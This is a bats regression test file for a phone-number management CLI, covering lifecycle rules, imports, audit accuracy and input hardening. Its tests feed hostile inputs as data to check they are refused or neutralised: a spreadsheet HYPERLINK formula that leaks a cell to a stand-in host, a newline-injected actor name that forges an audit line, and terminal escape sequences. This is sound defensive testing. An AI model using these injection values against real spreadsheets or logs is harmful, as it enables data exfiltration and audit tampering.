#!/usr/bin/env bats
# Regressions of the correctness review: each scenario failed before its fix.

load helpers

DE_LOCAL=+4930901820
doc() { printf '%%PDF proof' > "$TEST_DIR/proof.pdf"; echo "$TEST_DIR/proof.pdf"; }

@test "a re-bought number takes the type it was bought as this time" {
  numctl buy +12015550123 --type local >/dev/null
  numctl cancel +12015550123 >/dev/null
  NUMCTL_NOW=2026-03-01T00:00:00Z numctl sweep >/dev/null
  NUMCTL_NOW=2026-03-02T00:00:00Z numctl buy +12015550123 --type mobile >/dev/null
  [ "$(numctl show +12015550123 --json | jq -r .type)" = mobile ]
}

@test "restore is refused once the grace period ended, even before the sweep ran" {
  numctl buy +4915123456789 >/dev/null
  numctl cancel +4915123456789 >/dev/null
  before=$(db_checksum)
  NUMCTL_NOW=2026-03-01T00:00:00Z run_split restore +4915123456789
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"grace period ended at 2026-02-09T12:00:00Z"* ]]
  [ "$(db_checksum)" = "$before" ]
  NUMCTL_NOW=2026-02-09T11:59:59Z numctl restore +4915123456789 >/dev/null
}

@test "approve is refused once the order expired, whether or not the sweep ran; a late document extends it" {
  numctl buy $DE_LOCAL >/dev/null
  numctl docs submit $DE_LOCAL --kind proof_of_address --file "$(doc)" >/dev/null
  NUMCTL_NOW=2026-02-20T00:00:00Z run_split approve $DE_LOCAL
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"the order expired at 2026-02-09T12:00:00Z"* ]]
  numctl buy +4930901821 >/dev/null
  NUMCTL_NOW=2026-02-05T00:00:00Z numctl docs submit +4930901821 --kind proof_of_address --file "$(doc)" >/dev/null
  # Bought more than 30 days ago, but every document is in since 02-05: only the review is left.
  NUMCTL_NOW=2026-02-20T00:00:00Z numctl sweep >/dev/null
  [ "$(status_of +4930901821)" = pending ]
  NUMCTL_NOW=2026-02-20T00:00:00Z numctl approve +4930901821 >/dev/null
  [ "$(status_of +4930901821)" = active ]
}

@test "a number typed almost in E.164, with its trunk prefix, is found" {
  numctl buy +4930901821 >/dev/null
  run numctl show +49030901821 --json
  [ "$status" -eq 0 ]
  [ "$(echo "$output" | jq -r .number)" = +4930901821 ]
  run numctl show +4915199999999
  [ "$status" -eq 3 ]
}

@test "time zone offsets out of range are refused" {
  for bad in 2026-01-10T12:00:00+99:99 2026-01-10T12:00:00-00:75 2026-01-10T12:00:00+15:00; do
    NUMCTL_NOW=$bad run numctl buy +4915123456789
    [ "$status" -eq 2 ]
  done
  printf 'number,bought_at\n+4915123456789,2026-01-01T00:00:00+24:00\n' > "$TEST_DIR/in.csv"
  run numctl import "$TEST_DIR/in.csv"
  [ "$status" -eq 2 ]
  NUMCTL_NOW=2026-01-10T12:00:00+14:00 run numctl buy +4915123456789
  [ "$status" -eq 0 ]
}

@test "without USER or NUMCTL_ACTOR the audit names the effective account" {
  env -u USER -u NUMCTL_ACTOR "$NUMCTL_BIN" buy +4915123456789 >/dev/null
  [ "$(numctl history +4915123456789 --json | jq -r '.[0].actor')" = "$(id -un)" ]
}

@test "CSV neutralises cells a spreadsheet would run as formulas, except the E.164 number; --csv-raw keeps them" {
  numctl team add '@SUM(1+1)' >/dev/null
  numctl buy +4915123456789 --team '@SUM(1+1)' --label '=HYPERLINK("http://x/?"&A1,"click")' >/dev/null
  row=$(numctl list --format csv | sed -n 2p)
  [[ "$row" == "+4915123456789,'+49 1512 3456789,DE,mobile,active,'@SUM(1+1),,"* ]]
  echo "$row" | grep -qF "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""
  [ "$(numctl team list --format csv | sed -n 2p)" = $'\'@SUM(1+1),1,0\r' ]
  raw=$(numctl --csv-raw list --format csv | sed -n 2p)
  [[ "$raw" == "+4915123456789,+49 1512 3456789,DE,mobile,active,@SUM(1+1),,"* ]]
  echo "$raw" | grep -qF '"=HYPERLINK('
}

@test "documents belong to one lifecycle: a number bought again starts with none" {
  numctl buy $DE_LOCAL >/dev/null
  numctl docs submit $DE_LOCAL --kind proof_of_address --file "$(doc)" >/dev/null
  numctl approve $DE_LOCAL >/dev/null
  numctl cancel $DE_LOCAL >/dev/null
  NUMCTL_NOW=2026-03-01T00:00:00Z numctl sweep >/dev/null
  NUMCTL_NOW=2026-03-02T00:00:00Z numctl buy $DE_LOCAL >/dev/null
  [ "$(status_of $DE_LOCAL)" = pending ]
  [ "$(numctl docs list $DE_LOCAL --json | jq -c '[(.documents | length), .missing]')" = '[0,["proof_of_address"]]' ]
  NUMCTL_NOW=2026-03-02T00:00:00Z run_split approve $DE_LOCAL
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"missing proof_of_address"* ]]
  # The earlier lifecycle's submission stays readable in the history.
  [ "$(numctl history $DE_LOCAL --json | jq '[.[] | select(.action == "submit_documents")] | length')" -eq 1 ]
  # A withdrawn order is a lifecycle too.
  NUMCTL_NOW=2026-03-02T00:00:00Z numctl docs submit $DE_LOCAL --kind proof_of_address --file "$(doc)" >/dev/null
  NUMCTL_NOW=2026-03-02T00:00:00Z numctl cancel $DE_LOCAL >/dev/null
  NUMCTL_NOW=2026-03-03T00:00:00Z numctl buy $DE_LOCAL >/dev/null
  [ "$(numctl docs list $DE_LOCAL --json | jq '.documents | length')" -eq 0 ]
}

@test "import decides a row without status as buy does; a regulated active row needs --trust-status" {
  printf 'number,status\n+4930901821,\n+4930901822,active\n+4915123456789,active\n' > "$TEST_DIR/in.csv"
  before=$(db_checksum)
  run_split import "$TEST_DIR/in.csv"
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"1 of 3 rows are bad"*"row 3: +49 30 901822 is active in the file, but DE asks for documents"* ]]
  [ "$(db_checksum)" = "$before" ]
  printf 'number\n+4930901821\n+4915123456789\n' > "$TEST_DIR/plain.csv"
  numctl import "$TEST_DIR/plain.csv" >/dev/null
  [ "$(status_of +4930901821)" = pending ]
  [ "$(status_of +4915123456789)" = active ]
  numctl import --trust-status <(printf 'number,status\n+4930901822,active\n') --input-format csv >/dev/null
  [ "$(status_of +4930901822)" = active ]
  [ "$(numctl history +4930901822 --json | jq -r '.[0].details.status_trusted')" = "documents held outside numctl" ]
  # A number that has left is not claimed in service: nothing was trusted.
  numctl import --trust-status <(printf 'number,status\n+4930901833,ported_out\n') --input-format csv >/dev/null
  [ "$(numctl history +4930901833 --json | jq -r '.[0].details | has("status_trusted")')" = false ]
}

@test "an imported pending order expires from its import, not its old bought_at; show gives expires_at" {
  printf 'number,status,bought_at\n+4930901821,pending,2020-01-01T00:00:00Z\n' > "$TEST_DIR/in.csv"
  numctl import "$TEST_DIR/in.csv" >/dev/null
  [ "$(numctl show +4930901821 --json | jq -r .expires_at)" = 2026-02-09T12:00:00Z ]
  [ "$(numctl show +4930901821 --json | jq -r 'keys_unsorted | .[(index("release_at") + 1)]')" = expires_at ]
  run numctl sweep --json
  [ "$(echo "$output" | jq -c .expired)" = '[]' ]
  # A document moves the deadline; approval ends it.
  NUMCTL_NOW=2026-02-01T00:00:00Z numctl docs submit +4930901821 --kind proof_of_address --file "$(doc)" >/dev/null
  [ "$(numctl show +4930901821 --json | jq -r .expires_at)" = 2026-03-03T00:00:00Z ]
  NUMCTL_NOW=2026-03-02T00:00:00Z numctl approve +4930901821 >/dev/null
  [ "$(numctl show +4930901821 --json | jq -r .expires_at)" = null ]
}

@test "sweep --now later than the clock is refused unless --dry-run or --force-time; the audit keeps both times" {
  numctl buy +4915123456789 >/dev/null
  numctl cancel +4915123456789 >/dev/null
  before=$(db_checksum)
  run_split sweep --now 2026-03-01T00:00:00Z
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"later than the clock"*"--dry-run"*"--force-time"* ]]
  [ "$(db_checksum)" = "$before" ]
  run numctl sweep --now 2026-03-01T00:00:00Z --dry-run --json
  [ "$(echo "$output" | jq -c .released)" = '["+4915123456789"]' ]
  [ "$(status_of +4915123456789)" = to_be_cancelled ]
  numctl sweep --now 2026-03-01T00:00:00Z --force-time >/dev/null
  [ "$(status_of +4915123456789)" = cancelled ]
  run numctl history +4915123456789 --json
  [ "$(echo "$output" | jq -r '.[-1] | [.at, .details.run_at] | join(" ")')" = "2026-03-01T00:00:00Z 2026-01-10T12:00:00Z" ]
}

@test "a number released as high risk is never picked again, and bought by number only with --force" {
  numctl buy +447400100001 >/dev/null
  numctl flag +447400100001 --reason 'Scam Likely' >/dev/null
  numctl replace +447400100001 --with +447400100002 >/dev/null
  NUMCTL_NOW=2026-03-01T00:00:00Z numctl sweep >/dev/null
  [ "$(status_of +447400100001)" = cancelled ]
  run numctl available --country GB --type mobile --format plain --limit 1000
  [[ "$output" != *"+447400100001"* ]]
  NUMCTL_NOW=2026-03-01T00:00:00Z run numctl buy --country GB --type mobile --json
  [ "$(echo "$output" | jq -r '.[0].number')" != "+447400100001" ]
  NUMCTL_NOW=2026-03-01T00:00:00Z run_split buy +447400100001
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"released as high risk (Scam Likely)"*"--force"* ]]
  NUMCTL_NOW=2026-03-01T00:00:00Z numctl buy +447400100001 --force >/dev/null
  [ "$(status_of +447400100001)" = active ]
}

@test "two buy --country at once take two different numbers" {
  numctl init >/dev/null 2>&1 || true
  for round in 1 2 3; do
    numctl buy --country US --type toll_free >/dev/null &
    numctl buy --country US --type toll_free >/dev/null &
    wait %1
    wait %2
  done
  [ "$(numctl list --format plain | wc -l)" -eq 6 ]
}

@test "the audit is truthful: import records the members it creates, refuses a member in another team; a replacement's buy names what it replaces" {
  numctl team add Sales >/dev/null
  numctl team add Support >/dev/null
  numctl member add Ada --team Sales >/dev/null
  printf 'number,team,member\n+4915123456781,Support,Ada\n+4915123456782,Support,Grace\n' > "$TEST_DIR/in.csv"
  before=$(db_checksum)
  run_split import "$TEST_DIR/in.csv"
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"row 2: member 'Ada' is in team 'Sales', not 'Support'"* ]]
  [ "$(db_checksum)" = "$before" ]
  printf 'number,team,member\n+4915123456782,Support,Grace\n+4915123456783,,Ada\n' > "$TEST_DIR/in.csv"
  numctl import "$TEST_DIR/in.csv" >/dev/null
  sql "SELECT action, details FROM audit WHERE action = 'member_add'" > "$TEST_DIR/adds"
  grep -q '"member":"Grace","team":"Support"' "$TEST_DIR/adds"
  numctl buy +447400100001 >/dev/null
  numctl flag +447400100001 >/dev/null
  numctl replace +447400100001 --with +447400100002 >/dev/null
  [ "$(numctl history +447400100002 --json | jq -r '.[0].details.replaces')" = "+447400100001" ]
}

@test "a replaced number cannot be restored: the refusal names its replacement" {
  numctl team add Support >/dev/null
  numctl buy +447400100001 --team Support >/dev/null
  numctl flag +447400100001 >/dev/null
  numctl replace +447400100001 --with +447400100002 >/dev/null
  before=$(db_checksum)
  run_split restore +447400100001
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"replaced by +447400100002"* ]]
  [ "$(db_checksum)" = "$before" ]
}

# Runs numctl as an unprivileged account (root ignores file modes).
as_user() {
  if [ "$(id -u)" -eq 0 ]; then setpriv --reuid=nobody --regid=nogroup --clear-groups env HOME=/nonexistent "$NUMCTL_BIN" "$@"
  else "$NUMCTL_BIN" "$@"; fi
}

@test "a read-only database in a read-only directory can be read" {
  sqlite_only
  mkdir "$TEST_DIR/ro"
  export NUMCTL_DB=$TEST_DIR/ro/numbers.db
  numctl buy +4915123456789 +447400100001 >/dev/null
  numctl history +4915123456789 >/dev/null
  chmod 755 "$TEST_DIR"
  chmod 444 "$NUMCTL_DB"
  chmod 555 "$TEST_DIR/ro"
  run as_user list --format plain
  [ "$status" -eq 0 ]
  [ "$output" = $'+447400100001\n+4915123456789' ] || [ "$output" = $'+4915123456789\n+447400100001' ]
  run as_user show +4915123456789 --json
  [ "$status" -eq 0 ]
  [ "$(echo "$output" | jq -r .status)" = active ]
  run as_user stats --json
  [ "$status" -eq 0 ]
  # Writing is still refused, clearly, and changes nothing.
  run as_user cancel +4915123456789
  [ "$status" -eq 5 ]
  [[ "$output" == *"read-only"* ]]
  chmod 755 "$TEST_DIR/ro"
  [ "$(status_of +4915123456789)" = active ]
}

@test "hostile text is refused at the door: actors, labels, names and file names with controls, bad UTF-8 or decomposed accents" {
  numctl buy +4915123456789 >/dev/null
  before=$(db_checksum)
  run_split --actor "$(printf 'evil\n2026-01-01T00:00:00Z  admin  approve')" flag +4915123456789
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"actor name must not contain control characters"* ]]
  NUMCTL_ACTOR=$'x\e[2Jy' run_split flag +4915123456789
  [ "$status" -eq 2 ]
  run_split flag +4915123456789 --reason $'caf\xe9'
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"not valid UTF-8"* ]]
  run_split team add $'Sales\xc2\x9b2J'  # C1 control (CSI)
  [ "$status" -eq 2 ]
  numctl buy +4930901820 >/dev/null
  before=$(db_checksum)
  printf 'pdf' > "$TEST_DIR/$(printf 'a\nb.pdf')"
  run_split docs submit +4930901820 --kind proof_of_address --file "$TEST_DIR/$(printf 'a\nb.pdf')"
  [ "$status" -eq 2 ]
  [ "$(db_checksum)" = "$before" ]
}

@test "names are NFC-normalised: a decomposed and a precomposed Café Zoë are one team" {
  numctl team add $'Cafe\xcc\x81 Zoe\xcc\x88'
  run_split team add 'Café Zoë'
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"already exists"* ]]
  numctl buy +4915123456789 --team 'Café Zoë' >/dev/null
  numctl member add $'Ade\xcc\x80le' --team $'Cafe\xcc\x81 Zoe\xcc\x88' >/dev/null
  numctl assign +4915123456789 --member 'Adèle' >/dev/null
  [ "$(numctl team list --json | jq -r '.[0].name')" = 'Café Zoë' ]
  [ "$(numctl show +4915123456789 --json | jq -r .member)" = 'Adèle' ]
}

@test "text stored before these checks is masked on a terminal and still valid JSON" {
  sqlite_only  # writes bytes that are not UTF-8, which PostgreSQL refuses to store at all
  numctl buy +4915123456789 --label ok >/dev/null
  sql "UPDATE numbers SET label = CAST(X'636166E9201B5B324A' AS TEXT); UPDATE audit SET actor = 'x' || char(27) || '[2Jy'"
  numctl list --format json | jq -e '.[0].label == "caf\ufffd \u001b[2J"' >/dev/null
  run numctl show +4915123456789
  [[ "$output" != *$'\e'* ]]
  [[ "$output" == *"caf"$'\xef\xbf\xbd'" ?[2J"* ]]
  run numctl history +4915123456789
  [[ "$output" != *$'\e'* ]]
}

@test "the phone module loads only from an absolute path to a file no one else can change" {
  module=$(find "$(dirname "$NUMCTL_BIN")/.." -name numctl_phone.so | head -1)
  cp "$module" "$TEST_DIR/phone.so"
  chmod 755 "$TEST_DIR/phone.so"
  NUMCTL_PHONE_MODULE=$TEST_DIR/phone.so numctl buy +4915123456789 >/dev/null
  (cd "$TEST_DIR" && NUMCTL_PHONE_MODULE=phone.so run_split buy +4915123456780
   [ "$status" -eq 2 ]
   [[ "$stderr" == *"must be an absolute path"* ]])
  chmod 666 "$TEST_DIR/phone.so"
  NUMCTL_PHONE_MODULE=$TEST_DIR/phone.so run_split buy +4915123456780
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"writable by group or others"* ]]
  [ "$(numctl list --format plain)" = "+4915123456789" ]
}

@test "docs get -o creates a private new file, refuses to overwrite without --force and never follows a link; backup - is refused" {
  numctl buy $DE_LOCAL >/dev/null
  numctl docs submit $DE_LOCAL --kind proof_of_address --file "$(doc)" >/dev/null
  numctl docs get $DE_LOCAL --kind proof_of_address -o "$TEST_DIR/out.pdf"
  [ "$(stat -c %a "$TEST_DIR/out.pdf")" = 600 ]
  [ "$(cat "$TEST_DIR/out.pdf")" = "%PDF proof" ]
  echo keep > "$TEST_DIR/existing"
  run_split docs get $DE_LOCAL --kind proof_of_address -o "$TEST_DIR/existing"
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"already exists; pass --force"* ]]
  [ "$(cat "$TEST_DIR/existing")" = keep ]
  echo secret > "$TEST_DIR/target"
  ln -s "$TEST_DIR/target" "$TEST_DIR/link"
  run_split docs get $DE_LOCAL --kind proof_of_address -o "$TEST_DIR/link" --force
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"symbolic link"* ]]
  [ "$(cat "$TEST_DIR/target")" = secret ]
  numctl docs get $DE_LOCAL --kind proof_of_address -o "$TEST_DIR/existing" --force
  [ "$(cat "$TEST_DIR/existing")" = "%PDF proof" ]
  (cd "$TEST_DIR" && run_split backup - && [ "$status" -eq 2 ] && [ ! -e "$TEST_DIR/-" ])
}

@test "non-geographic numbers (+800, +870) are refused at buy and import, clearly" {
  run_split buy +80012345678
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"+800 1234 5678 is a non-geographic number"* ]]
  printf 'number\n+870773111632\n' > "$TEST_DIR/in.csv"
  run_split import "$TEST_DIR/in.csv"
  [ "$status" -eq 2 ]
  [[ "$stderr" == *"row 2: +870 773 111 632 is a non-geographic number"* ]]
}
